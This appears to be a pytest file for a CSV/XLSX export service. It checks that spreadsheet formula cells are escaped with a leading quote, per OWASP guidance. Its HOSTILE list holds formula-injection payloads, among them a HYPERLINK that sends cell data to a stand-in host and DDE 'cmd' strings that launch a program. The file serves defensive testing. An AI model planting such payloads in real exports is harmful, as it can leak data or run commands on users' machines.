"""The one CSV/XLSX writer: formula cells escaped (OWASP), data otherwise exact."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.services import tabular

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "+86 755 1234 5678",
]
PLAIN = ["-12.50", "+3", "0.5", "-7", "Porcelain coffee mug", "a=b", "", "1E5"]


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_leading_quote_in_csv(value):
    rows = _parse(tabular.csv_text([{"v": value}], ["v"]))
    assert rows == [["v"], ["'" + value]]


@pytest.mark.parametrize("value", PLAIN)
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert _parse(tabular.csv_text([{"v": value}], ["v"])) == [["v"], [value]]


def test_values_are_shown_alike_and_quoted_per_rfc_4180():
    record = {
        "none": None,
        "flag": True,
        "list": ["a", "=b"],
        "amount": Decimal("-3.50"),
        "text": 'say "hi", twice\r\nplease',
    }
    text = tabular.csv_text([record], list(record))
    assert text.splitlines()[0] == "none,flag,list,amount,text"
    assert _parse(text)[1] == ["", "true", "a; =b", "-3.50", 'say "hi", twice\r\nplease']
    assert text.endswith('"say ""hi"", twice\r\nplease"\r\n')
    assert "".join(tabular.iter_csv([record], list(record))) == text


def test_xlsx_keeps_text_exact_as_text_and_numbers_as_numbers():
    records = [{"description": v, "value": "-3.50", "code": "0615"} for v in HOSTILE[:5]]
    records.append({"description": "plain", "value": Decimal("12.25"), "code": None})
    data = tabular.xlsx_bytes(records, ["description", "value", "code"], numeric={"value"})
    ws = load_workbook(io.BytesIO(data)).active
    rows = list(ws.iter_rows(min_row=2))
    for row, value in zip(rows, HOSTILE[:5], strict=False):
        cell = row[0]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
        assert (row[1].value, row[1].data_type) == (-3.5, "n")
        assert (row[2].value, row[2].data_type) == ("0615", "s")
    last = rows[-1]
    assert (last[0].value, last[0].quotePrefix) == ("plain", False)
    assert (last[1].value, last[2].value) == (12.25, None)
    assert [c.value for c in next(ws.iter_rows(max_row=1))] == ["description", "value", "code"]
